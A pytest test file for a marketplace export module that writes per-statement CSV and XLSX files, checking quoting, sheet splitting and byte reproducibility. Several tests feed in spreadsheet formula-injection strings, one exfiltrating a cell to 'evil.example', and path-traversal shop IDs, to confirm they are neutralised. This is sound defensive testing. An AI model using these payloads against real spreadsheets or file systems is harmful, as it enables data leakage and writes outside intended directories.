"""The Seller Center CSV exports: one file per shop and statement, byte for byte what formatting
each statement apart gives, whichever way the chunked writer took (slices or fallback)."""

import re
import zipfile
from datetime import date
from pathlib import Path

import fastexcel
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from publish import exports
from schemas.layout import ORDER_DETAILS_LABELS, snake

MONEY = pl.Decimal(18, 2)


def _order_details(statement_of_row: list[int], names: list[str]) -> tuple[pl.DataFrame, pl.DataFrame]:
    """Order details rows (every layout column) for statements S0, S1, … of two shops, in the given row order."""
    n = len(statement_of_row)
    columns = {}
    for label in ORDER_DETAILS_LABELS:
        name = snake(label)
        columns[name] = pl.Series(name, [f"{name}-{i}" for i in range(n)], pl.String)
    sid = [f"S{s}" for s in statement_of_row]
    frame = pl.DataFrame(columns).with_columns(
        pl.Series("statement_id", sid),
        pl.Series("product_name", names),
        pl.Series("quantity", range(n), pl.Int64),
        pl.Series("total_settlement_amount", [f"{i}.05" for i in range(n)]).cast(MONEY),
        pl.lit(date(2026, 10, 1)).alias("order_created_date"),
    )
    statements = pl.DataFrame({"statement_id": sorted(set(sid), key=lambda s: int(s[1:]))}).with_columns(
        pl.when(pl.col("statement_id").str.slice(1).cast(pl.Int64) % 2 == 0)
        .then(pl.lit("SHOP01"))
        .otherwise(pl.lit("SHOP02"))
        .alias("shop_id")
    )
    return frame, statements


def _one_by_one(order_details: pl.DataFrame, statements: pl.DataFrame, directory: Path) -> None:
    """The reference: one `write_csv` per statement, its rows in their input order."""
    labelled = exports._labelled(order_details, ORDER_DETAILS_LABELS, "statement_id")
    shop = dict(zip(statements["statement_id"], statements["shop_id"], strict=True))
    for (sid,), rows in labelled.partition_by(
        "statement_id", as_dict=True, maintain_order=True, include_key=False
    ).items():
        (directory / shop[sid]).mkdir(parents=True, exist_ok=True)
        rows.write_csv(directory / shop[sid] / f"{sid}.csv")


def _files(directory: Path) -> dict[str, bytes]:
    return {str(p.relative_to(directory)): p.read_bytes() for p in sorted(directory.rglob("*.csv"))}


@settings(max_examples=40, deadline=None)
@given(
    rows=st.lists(
        st.tuples(st.integers(0, 6), st.sampled_from(["Mug", "Tee, large", 'Say "hi"', "two\nlines", "a\r\nb", ""])),
        min_size=1,
        max_size=40,
    ),
    chunk=st.integers(1, 12),
)
def test_exports_equal_one_write_per_statement(tmp_path_factory, rows, chunk):
    order_details, statements = _order_details([s for s, _ in rows], [name for _, name in rows])
    fast, reference = tmp_path_factory.mktemp("fast"), tmp_path_factory.mktemp("reference")
    assert exports.write_exports(order_details, statements, fast, xlsx=False, chunk_rows=chunk) == statements.height
    _one_by_one(order_details, statements, reference)
    written = _files(fast)
    assert written == _files(reference)
    assert len(written) == statements.height


_TEXT = st.one_of(st.none(), st.text(alphabet=st.sampled_from(list('ab ,"\r\n\t;é0.-')), max_size=6))
_CELL = {
    "text": _TEXT,
    "money": st.one_of(st.none(), st.integers(-(10**6), 10**6)),
    "int": st.one_of(st.none(), st.integers(-5, 5)),
}


@settings(max_examples=200, deadline=None)
@given(
    spec=st.lists(st.tuples(st.sampled_from(sorted(_CELL)), st.booleans()), min_size=1, max_size=12),
    height=st.integers(0, 6),
    data=st.data(),
)
def test_compact_rows_write_the_bytes_of_necessary_quoting(spec, height, data):
    """Runs of constant columns merged, text quoted by hand, written unquoted: the same bytes as
    Polars' own `necessary` quoting of the frame as it is, for any text, nulls and constants."""
    columns = {}
    for i, (kind, constant) in enumerate(spec):
        values = [data.draw(_CELL[kind])] * height if constant else [data.draw(_CELL[kind]) for _ in range(height)]
        series = pl.Series(f"c{i}", values, {"text": pl.String, "money": pl.Int64, "int": pl.Int64}[kind])
        columns[f"c{i}"] = series.cast(MONEY) / 100 if kind == "money" else series
    frame = pl.DataFrame(columns).with_columns(
        pl.col(c).cast(MONEY) for c, (kind, _) in zip(columns, spec, strict=True) if kind == "money"
    )
    compact = exports._compact(frame)
    assert bytes(exports._csv_bytes(compact, header=False, quote_style="never")) == bytes(
        exports._csv_bytes(frame, header=False)
    )
    assert compact.width <= frame.width


def test_compact_merges_adjacent_constant_columns():
    frame = pl.DataFrame(
        {"a": ["x", "y"], "b": ["", ""], "c": ["Computed", "Computed"], "d": ["1,5", "2"], "e": [0, 0]}
    )
    compact = exports._compact(frame)
    assert compact.columns == ["a", "b", "d", "e"]  # b and c as one field; e alone stays a column
    assert (
        bytes(exports._csv_bytes(compact, header=False, quote_style="never"))
        == b'x,"",Computed,"1,5",0\ny,"",Computed,2,0\n'
    )


def test_exports_header_and_rows(tmp_path):
    order_details, statements = _order_details([1, 0, 1, 2], ["Mug", "Tee", "Cap", "Hat"])
    exports.write_exports(order_details, statements, tmp_path, xlsx=False)
    lines = (tmp_path / "SHOP02" / "S1.csv").read_text().splitlines()
    assert lines[0].split(",")[:3] == ["Statement date (UTC)", "Statement ID", "Payment ID"]
    assert len(lines) == 3  # header + its two rows, in input order
    assert [line.split(",")[ORDER_DETAILS_LABELS.index("Product name")] for line in lines[1:]] == ["Mug", "Cap"]
    assert sorted(p.name for p in tmp_path.rglob("*.csv")) == ["S0.csv", "S1.csv", "S2.csv"]


def test_exports_refuse_rows_of_an_unknown_statement(tmp_path):
    order_details, statements = _order_details([0, 1], ["Mug", "Tee"])
    with pytest.raises(ValueError, match="S1"):
        exports.write_exports(order_details, statements.filter(pl.col("statement_id") == "S0"), tmp_path, xlsx=False)


def _sheets(path: Path) -> dict[str, pl.DataFrame]:
    """Every sheet of an XLSX file, read back by calamine (fastexcel) with text columns as text."""
    reader = fastexcel.read_excel(path)
    return {name: reader.load_sheet(name, dtypes="string").to_polars() for name in reader.sheet_names}


def _statement_header() -> pl.DataFrame:
    return pl.DataFrame({"Statement ID": ["S0"], "Total settlement amount": ["-1234567.89"]}).with_columns(
        pl.col("Total settlement amount").cast(MONEY)
    )


def test_xlsx_holds_the_statement_and_its_rows_as_text_and_exact_numbers(tmp_path):
    details = pl.DataFrame(
        {
            "Order/adjustment ID": [
                "576460752303423488123",
                '=HYPERLINK("http://evil.example/?x="&A1,"click")',
                "+1",
                "@SUM(A1)",
            ],
            "Quantity": [1, 2, 3, 4],
            "Total settlement amount": ["0.10", "-0.01", "9999999999999.99", "12.30"],
        }
    ).with_columns(pl.col("Total settlement amount").cast(MONEY))
    exports.write_xlsx(tmp_path / "S0.xlsx", _statement_header(), details)
    sheets = _sheets(tmp_path / "S0.xlsx")
    assert list(sheets) == ["Statements", "Order details"]
    assert sheets["Statements"].to_dicts() == [{"Statement ID": "S0", "Total settlement amount": "-1234567.89"}]
    back = sheets["Order details"]
    # Long IDs never pass through a float; text a spreadsheet would run gets the CSV's `'` in front.
    assert back["Order/adjustment ID"].to_list() == [
        "576460752303423488123",
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "'+1",
        "'@SUM(A1)",
    ]
    assert back["Quantity"].to_list() == ["1", "2", "3", "4"]
    with zipfile.ZipFile(tmp_path / "S0.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet2.xml").decode()
    assert re.findall("<v>([^<]*)</v>", sheet) == [
        "1",
        "0.1",
        "2",
        "-0.01",
        "3",
        "9999999999999.99",
        "4",
        "12.3",
    ]  # each amount's own decimal
    assert "<f>" not in sheet  # text that looks like a formula is written as text, never as a formula
    assert sheet.count('t="inlineStr"') == 3 + 4


def test_xlsx_bytes_are_reproducible(tmp_path):
    details = pl.DataFrame({"SKU ID": ["A", "B"], "Net sales": ["1.00", "2.50"]}).with_columns(
        pl.col("Net sales").cast(MONEY)
    )
    exports.write_xlsx(tmp_path / "a.xlsx", _statement_header(), details)
    exports.write_xlsx(tmp_path / "b.xlsx", _statement_header(), details)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_a_statement_longer_than_a_sheet_continues_on_the_next_sheets(tmp_path):
    details = pl.DataFrame({"SKU ID": [f"K{i}" for i in range(7)], "Quantity": range(7)})
    exports.write_xlsx(tmp_path / "S0.xlsx", _statement_header(), details, sheet_rows=3)
    sheets = _sheets(tmp_path / "S0.xlsx")
    assert list(sheets) == ["Statements", "Order details", "Order details (2)", "Order details (3)"]
    assert [sheet.height for sheet in sheets.values()] == [1, 3, 3, 1]
    assert pl.concat(list(sheets.values())[1:])["SKU ID"].to_list() == details["SKU ID"].to_list()


def test_excel_row_limit_splits_a_statement_of_more_than_a_million_rows(tmp_path):
    rows = exports.XLSX_SHEET_ROWS + 2
    assert rows + 1 > 1_048_576  # more rows than one Excel sheet holds, with its header
    details = pl.DataFrame({"Quantity": pl.int_range(rows, eager=True)})
    exports.write_xlsx(tmp_path / "S0.xlsx", _statement_header(), details)
    reader = fastexcel.read_excel(tmp_path / "S0.xlsx")
    assert reader.sheet_names == ["Statements", "Order details", "Order details (2)"]
    first, second = (reader.load_sheet(name).to_polars()["Quantity"] for name in reader.sheet_names[1:])
    assert first.len() == 1_048_575 and second.to_list() == [float(rows - 2), float(rows - 1)]


@pytest.mark.parametrize(
    "shop", ["../../../../elsewhere", "/srv/elsewhere/SHOPX", "a/b", "nul\x00byte", ".", "..", "x" * 100_000, "Café €"]
)
def test_export_file_names_stay_inside_the_directory_whatever_the_id(tmp_path, shop):
    order_details, statements = _order_details([0, 1, 1], ["Mug", "Tee", "Cap"])
    order_details = order_details.with_columns((pl.lit(shop) + "-" + pl.col("statement_id")).alias("statement_id"))
    statements = statements.with_columns(
        pl.lit(shop).alias("shop_id"), (pl.lit(shop) + "-" + pl.col("statement_id")).alias("statement_id")
    )
    target = tmp_path / "exports"
    assert exports.write_exports(order_details, statements, target, xlsx=False) == 2
    written = sorted(p for p in tmp_path.rglob("*") if p.is_file())
    assert len(written) == 2 and all(p.parent.parent == target for p in written)
    assert all(len(p.name.encode()) <= exports.FILE_NAME_BYTES + len(".csv") for p in written)
    names = {exports.file_name(f"{shop}-S0"), exports.file_name(f"{shop}-S1")}
    assert {p.stem for p in written} == names and len(names) == 2


def test_file_names_of_distinct_ids_are_distinct():
    ids = ["a/b", "a%2Fb", "a b", "a%20b", ".x", "%2Ex", "..", "%2E.", "SHOP-A-20260101"]
    assert len({exports.file_name(i) for i in ids}) == len(ids)
    assert exports.file_name("SHOP-A-20260101") == "SHOP-A-20260101"  # a plain ID is its own name


def test_csv_text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers(tmp_path):
    names = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1 phone case",
        "-20% hoodie",
        "@SUM(A1)",
        "\tTab",
        "Mug = cup",
    ]
    order_details, statements = _order_details([0] * len(names), names)
    order_details = order_details.with_columns(pl.Series("total_settlement_amount", ["-1.05"] * len(names)).cast(MONEY))
    exports.write_exports(order_details, statements, tmp_path, xlsx=False)
    rows = pl.read_csv(tmp_path / "SHOP01" / "S0.csv", infer_schema=False)
    assert rows["Product name"].to_list() == ["'" + n for n in names[:5]] + ["Mug = cup"]
    assert rows["Total settlement amount"].to_list() == ["-1.05"] * len(names)
    clean = exports.neutralise_formulas(pl.DataFrame({"a": ["Mug", "x=1"], "n": [-1, 2]}))
    assert clean.to_dict(as_series=False) == {"a": ["Mug", "x=1"], "n": [-1, 2]}


def test_an_amount_an_xlsx_number_cannot_hold_exactly_stops_the_export():
    header = pl.DataFrame({"Total settlement amount": ["10000000000000.00"]}).with_columns(
        pl.col("Total settlement amount").cast(MONEY)
    )
    with pytest.raises(
        exports.ExportError,
        match=r"sheet 'Statements': an amount of 10000000000000.00 has more digits than an XLSX number holds exactly",
    ):
        exports.write_xlsx(Path("/nonexistent/never-written.xlsx"), header, header)
